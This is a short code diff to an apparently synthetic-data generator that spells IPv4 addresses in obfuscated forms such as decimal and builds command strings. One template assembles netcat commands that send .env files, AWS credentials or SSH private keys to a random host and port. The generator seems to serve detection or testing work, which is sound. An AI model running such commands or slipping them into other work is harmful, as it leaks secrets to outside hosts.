@@ -18,7 +18,7 @@ from .world import at_path, b64
 
 
 # ----- IPv4 spellings --------------------------------------------------------------------
-def ip_decimal(ip):
+def ip_decimal(ip, w):
     return str(int(ipaddress.IPv4Address(ip)))
 
 
@@ -78,7 +78,7 @@ def _url(w, host, port=None):
 def _ipform(fn):
     def make(w, i):
         ip = w.public_ip()
-        host = fn(ip, w) if fn is not ip_decimal else ip_decimal(ip)
+        host = fn(ip, w)
         if w.chance(0.2):
             port = w.port()
             cmd = w.choice([f"nc {host} {port} < {w.choice(['.env', '~/.aws/credentials', '~/.ssh/id_ed25519'])}",
